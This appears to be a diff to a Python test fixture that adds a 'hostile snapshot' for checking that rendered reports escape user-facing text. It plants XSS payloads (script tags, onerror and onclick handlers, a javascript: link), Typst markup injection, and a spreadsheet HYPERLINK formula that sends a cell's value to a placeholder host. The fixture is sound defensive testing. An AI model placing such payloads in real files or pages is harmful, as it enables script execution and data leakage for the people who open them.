@@ -1,5 +1,6 @@
 """A snapshot written by hand, with figures as the recorded demo has them."""
 
+import json
 from typing import Any
 
 from core.decision.catalogue import CLAIMS
@@ -33,6 +34,10 @@ LATENCY = {
     "tuned": (123.2, 120.1, 126.2, 179.7),
     "hybrid": (541.3, 522.6, 550.0, 877.5),
 }
+IMAGE = "<img src=x onerror=alert(1)>.pdf"
+SCRIPT = "<script>alert(2)</script>"
+FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"x")'
+TYPST = '#panic("typst") #import "@preview/x:1.0.0": * $x$ `raw`'
 HOUR = 0.1
 PLANNED = (
     ("held_out", "rag", "tuned", 0.3335, 0.194, 0.481, 0.0012, "supported"),
@@ -321,3 +326,21 @@ def recommendation() -> Record:
         },
         "questionnaire": "A questionnaire would say RAG; your measurements say Hybrid.",
     }
+
+
+def hostile_snapshot() -> Snapshot:
+    """Return a snapshot with markup wherever a name, a question or an answer stands."""
+    text = json.dumps(snapshot(recommendation=recommendation()))
+    for mine, theirs in (
+        ("Demo (recorded)", IMAGE),
+        (MODEL, f"{SCRIPT}{FORMULA}"),
+        ("=no idea", f"{FORMULA} {SCRIPT} {IMAGE}"),
+        ("How long is", f"{TYPST} ![x](javascript:alert(3)) {SCRIPT} How long is"),
+        ("mixed 1", FORMULA),
+        ("One adapter was trained", f"</title></style></svg>{SCRIPT} | {TYPST}"),
+        ("Hybrid fits best", f"<b onclick=alert(4)>{SCRIPT}]]></b>"),
+    ):
+        assert mine in text
+        text = text.replace(mine, json.dumps(theirs)[1:-1])
+    changed: Snapshot = json.loads(text)
+    return changed
